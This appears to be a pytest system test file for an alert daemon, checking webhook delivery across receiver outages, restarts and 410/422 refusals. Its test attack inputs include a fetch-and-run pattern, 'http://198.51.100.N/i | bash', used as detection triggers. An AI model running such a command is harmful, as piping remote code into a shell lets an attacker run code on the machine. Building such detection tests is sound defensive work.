"""Receivers that are away, refuse, or want no more: nothing is lost that anybody still wants."""

from collections.abc import Callable

import pytest

from daemon.cli.demo.stage import free_port
from tests.doubles.alert_bodies import alerts_in, entities_in
from tests.doubles.live_daemon import LiveDaemon
from tests.doubles.real_time import wait_until
from tests.doubles.receiver import Receiver, Reply

pytestmark = [pytest.mark.system, pytest.mark.timeout(180)]


async def test_a_receiver_that_comes_back_gets_everything_once_over_a_restart(
    daemon: LiveDaemon, attack: Callable[[int], str]
) -> None:
    port = free_port()
    daemon.config["webhooks"] = [daemon.webhook("ops", port)]
    await daemon.start()
    daemon.append("audit", attack(1))
    await wait_until(lambda: len(daemon.incidents()) == 1, 30, daemon.last_words)
    daemon.append("audit", attack(2))
    await wait_until(lambda: len(daemon.incidents()) == 2, 30, daemon.last_words)
    assert "could not connect" in await daemon.until_health("webhook:ops", "degraded")
    assert await daemon.stop() == 0
    await daemon.start()
    daemon.append("audit", attack(3))
    await wait_until(lambda: len(daemon.incidents()) == 3, 30, daemon.last_words)

    async with Receiver(secrets=[daemon.secret], port=port) as receiver:
        await wait_until(lambda: len(receiver.received) >= 3, 90, daemon.last_words)
        await wait_until(lambda: daemon.owed() == 0, 30, daemon.last_words)
        await daemon.until_health("webhook:ops", "ok")

    assert len(receiver.received) == 3
    assert all(request.verified for request in receiver.received)
    assert {alert["entity"][-25:] for alert in alerts_in(receiver)} == {
        f"http://198.51.100.{number}/i | bash"[-25:] for number in (1, 2, 3)
    }
    assert daemon.rows("SELECT count(*), count(DISTINCT alert_id) FROM deliveries WHERE state = 'sent'") == [(3, 3)]


async def test_gone_disables_one_receiver_a_refusal_costs_one_alert_and_others_get_all(
    daemon: LiveDaemon, receiver: Receiver, attack: Callable[[int], str]
) -> None:
    async with Receiver(Reply(410)) as gone, Receiver(Reply(422)) as strict:
        daemon.config["webhooks"] = [
            daemon.webhook("ops", receiver.port),
            daemon.webhook("gone", gone.port),
            daemon.webhook("strict", strict.port),
        ]
        await daemon.start()
        daemon.append("audit", attack(1))
        await wait_until(lambda: daemon.incidents() != [] and daemon.owed() == 0, 30, daemon.last_words)
        daemon.append("audit", attack(2))
        await wait_until(lambda: len(daemon.incidents()) == 2 and daemon.owed() == 0, 30, daemon.last_words)
        assert len(entities_in(receiver)) == 2
        assert "disabled by its receiver" in await daemon.until_health("webhook:gone", "degraded")
        assert "422" in await daemon.until_health("webhook:strict", "degraded")
        assert (await daemon.health("webhook:ops"))[0] == "ok"

        assert (len(gone.received), len(strict.received)) == (1, 6)
    states = daemon.rows("SELECT webhook, state, count(*) FROM deliveries GROUP BY webhook, state ORDER BY webhook")
    assert states == [("gone", "dead", 2), ("ops", "sent", 2), ("strict", "dead", 2)]
